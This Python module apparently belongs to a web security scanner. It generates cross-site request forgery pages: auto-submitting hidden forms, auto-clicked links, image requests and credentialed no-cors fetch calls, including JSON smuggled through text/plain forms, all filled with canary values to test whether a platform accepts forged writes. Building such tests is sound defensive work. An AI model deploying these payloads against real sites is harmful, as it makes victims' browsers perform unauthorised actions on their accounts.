"""The pages of the other site: short HTML that makes a visitor's browser send a write. Pure."""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from html import escape
from typing import Any
from urllib.parse import urlencode

from launchready.gather.bodies import BOUNDARY
from launchready.gather.visits.reading import Form

SITE = "https://lr-attack.example"
URLENCODED, MULTIPART, TEXT = "application/x-www-form-urlencoded", "multipart/form-data", "text/plain"


@dataclass(frozen=True, slots=True)
class Write:
    """What is to be written: method, address, and the body as a value. `files` are the fields that hold a file.

    `kind` is the content type that the platform's own clients send ('' for no body); `secret` are hidden fields of
    the platform's own page, which another site does not know.
    """

    method: str
    url: str
    body: Any = None
    kind: str = ""
    files: tuple[str, ...] = ()
    secret: Mapping[str, str] = field(default_factory=dict)


@dataclass(frozen=True, slots=True)
class Trick:
    """One way of the other site: its name, and the page that does it."""

    how: str
    page: str


def tricks(write: Write) -> list[Trick]:
    """Every way in which another site can send this write without asking the platform first."""
    if write.method == "GET":
        url = write.url + ("?" + urlencode(_flat(write.body)) if write.body else "")
        return [
            Trick("a link that is followed", f"<a id=a href={_quoted(url)}>go</a><script>a.click()</script>"),
            Trick("an image", f"<img src={_quoted(url)}>"),
        ]
    if write.body is None:
        return [
            Trick("an empty form", _form(write.url, URLENCODED, {})),
            Trick("a fetch without a body", _fetch(write.url, "")),
        ]
    flat = _flat(write.body)
    if write.files or write.kind == MULTIPART:
        return [
            Trick("a form with a file (multipart/form-data)", _form(write.url, MULTIPART, flat, write.files)),
            Trick("a fetch with a file (multipart/form-data)", _fetch(write.url, _form_data(flat, write.files))),
        ]
    found = [
        Trick("a form (application/x-www-form-urlencoded)", _form(write.url, URLENCODED, flat)),
        Trick("a form (multipart/form-data)", _form(write.url, MULTIPART, flat)),
    ]
    if write.kind != URLENCODED and write.kind != MULTIPART:
        text = json.dumps(write.body)
        found.insert(0, Trick("a fetch of JSON as text/plain", _fetch(write.url, _script(text))))
        if pair := as_pair(write.body):
            found.insert(0, Trick("a form of JSON as text/plain", _form(write.url, TEXT, {pair[0]: pair[1]})))
    return found


def as_pair(body: Any) -> tuple[str, str] | None:
    """JSON cut at an equals sign, so that a text/plain form (`name=value`) spells it; None without a free text."""
    text = json.dumps(body)
    at = text.find("lr-canary-")
    end = text.find('"', at)
    if at < 0 or "=" in text[:end]:
        return None
    return text[:end] + " ", f" {text[end:]}"


def of_form(form: Form, canary: str) -> Write:
    """The write that a page's form would send when a person fills it in."""
    body: dict[str, str] = {}
    secret: dict[str, str] = {}
    for name, kind, value in form.fields:
        if kind in ("submit", "button", "image", "reset", "file", "password", "checkbox", "radio"):
            continue
        if kind == "hidden":
            (secret if any(word in name.lower() for word in ("csrf", "xsrf", "token", "nonce")) else body)[name] = value
        elif kind == "email" or "mail" in name.lower():
            body[name] = f"{canary}@example.com"
        elif kind == "url":
            body[name] = f"https://example.com/{canary}"
        else:
            body[name] = canary if kind in ("text", "textarea") else value
    return Write(form.method.upper(), form.action.split("?")[0], body, form.kind, secret=secret)


def _flat(body: Any) -> dict[str, str]:
    if not isinstance(body, dict):
        return {}
    return {str(key): value if isinstance(value, str) else json.dumps(value) for key, value in body.items()}


def _quoted(text: str) -> str:
    return f'"{escape(text)}"'


def _script(text: str) -> str:
    """A text as a literal inside a script element."""
    return json.dumps(text).replace("<", "\\u003c")


def _form(url: str, kind: str, fields: Mapping[str, str], files: tuple[str, ...] = ()) -> str:
    inputs = "".join(
        f"<input type=file name={_quoted(name)} data-text={_quoted(value)}>"
        if name in files
        else f"<input type=hidden name={_quoted(name)} value={_quoted(value)}>"
        for name, value in fields.items()
    )
    fill = (
        "for (const i of f.querySelectorAll('[type=file]')) { const d = new DataTransfer(); "
        "d.items.add(new File([i.dataset.text], 'note.txt', {type: 'text/plain'})); i.files = d.files; } "
        if files
        else ""
    )
    return (
        f"<form id=f method=post action={_quoted(url)} enctype={_quoted(kind)}>{inputs}</form>"
        f"<script>{fill}HTMLFormElement.prototype.submit.call(f)</script>"
    )


def _form_data(fields: Mapping[str, str], files: tuple[str, ...]) -> str:
    adding = "".join(
        f"d.append({_script(name)}, new File([{_script(value)}], 'note.txt', {{type: 'text/plain'}}));"
        if name in files
        else f"d.append({_script(name)}, {_script(value)});"
        for name, value in fields.items()
    )
    return f"(() => {{ const d = new FormData(); {adding} return d; }})()"


def _fetch(url: str, body: str) -> str:
    more = f", body: {body}" if body else ""
    call = f"fetch({_script(url)}, {{method: 'POST', mode: 'no-cors', credentials: 'include'{more}}})"
    return f"<script>{call}</script>"


def multipart(fields: Mapping[str, str], files: tuple[str, ...]) -> tuple[bytes, str]:
    """(body, content type) as the platform's own page would send these fields."""
    parts = []
    for name, value in _flat(dict(fields)).items():
        extra = '; filename="note.txt"\r\nContent-Type: text/plain' if name in files else ""
        parts.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"{extra}\r\n\r\n{value}\r\n')
    return ("".join(parts) + f"--{BOUNDARY}--\r\n").encode(), f"{MULTIPART}; boundary={BOUNDARY}"
